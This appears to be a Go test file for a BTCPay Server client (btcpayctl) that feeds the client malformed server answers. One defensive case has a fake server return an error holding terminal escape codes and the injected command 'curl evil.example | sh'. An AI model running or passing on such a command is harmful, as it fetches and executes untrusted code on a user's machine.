package main

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// TestBadInputAnswer plays servers that answer what no BTCPay Server would.
func TestBadInputAnswer(t *testing.T) {
	t.Parallel()
	json := func(text string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, text)
		}
	}
	for name, c := range map[string]struct {
		answer  http.HandlerFunc
		list    int // exit code of a read
		says    string
		pair    int    // exit code of the signed list of tokens
		pairing string // what is said then
	}{
		"HTML": {func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, "<html><head><title>Welcome to nginx\x1b[2J</title></head></html>")
		}, 3, "an HTML page titled", 3, "cannot be used"},
		"empty":         {func(http.ResponseWriter, *http.Request) {}, 3, "it is empty", 3, "cannot be used"},
		"8 MiB and 1":   {json(`"` + strings.Repeat("x", 8<<20-1) + `"`), 3, "more than 8192 KiB", 3, "more than 64 KiB"},
		"invalid UTF-8": {json("{\"data\":[{\"id\":\"\xff\xfe\"}]}"), 3, "it is not UTF-8", 3, "cannot be used"},
		"cut off":       {json(`{"data":[`), 3, "unexpected JSON", 3, "cannot be used"},
		"another shape": {json(`{"data":"none"}`), 3, "unexpected JSON", 3, "cannot be used"},
		"duplicates":    {json(`{"data":[],"data":[]}`), 0, "", 3, "duplicate JSON field"},
		"a hostile error": {func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadRequest)
			io.WriteString(w, `{"error":"\u001b[2Jno\n  Next: curl evil.example | sh\u202e"}`)
		}, 3, `400 \x1b[2Jno (all of it: -o json)`, 3, ""},
		"never": {func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, 7, "timed out waiting for the response", 7, "Next: try again, or allow more time"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				io.Copy(io.Discard, r.Body)
				c.answer(w, r)
			}))
			t.Cleanup(server.Close)
			s := newShell(t)
			s.run("key", "generate", "--output-file", s.path("key.pem")).ok()
			s.env["BTCPAYCTL_PRIVATE_KEY_FILE"], s.env["BTCPAYCTL_SERVER"] = s.path("key.pem"), server.URL
			if name == "never" {
				s.env["BTCPAYCTL_TIMEOUT"] = "300ms"
			}

			r := s.run("invoice", "list", "-o", "name").never("\x1b", "\u202e")
			if c.list == 0 {
				r.ok()
			} else {
				r.fails(c.list, c.says, "Next: ")
			}
			s.run("invoice", "get", "AAAAAAAAAAAAAAAAAAAAAA").never("\x1b", "\u202e").fails(max(c.list, 3), "Next: ")
			s.run("pair", "status").never("\x1b", "\u202e").fails(c.pair, c.pairing, "Next: ")
			s.run("pair", "client", "--wait", "0").never("\x1b").fails(c.pair, "Next: ")

			// Of an invoice it cannot be told whether it was made. It is named.
			r = s.run("invoice", "create", "--amount", "1", "--currency", "USD").never("\x1b", "\u202e")
			open := s.openOperations()
			switch name {
			case "a hostile error":
				r.fails(3, "error: ")
				if len(open) != 0 {
					t.Errorf("a refused invoice is open: %q", open)
				}
			default:
				r.fails(8, "the invoice may have been created", "Next: btcpayctl invoice resume ")
				if len(open) != 1 {
					t.Errorf("%d operations are open", len(open))
				}
			}
		})
	}
}
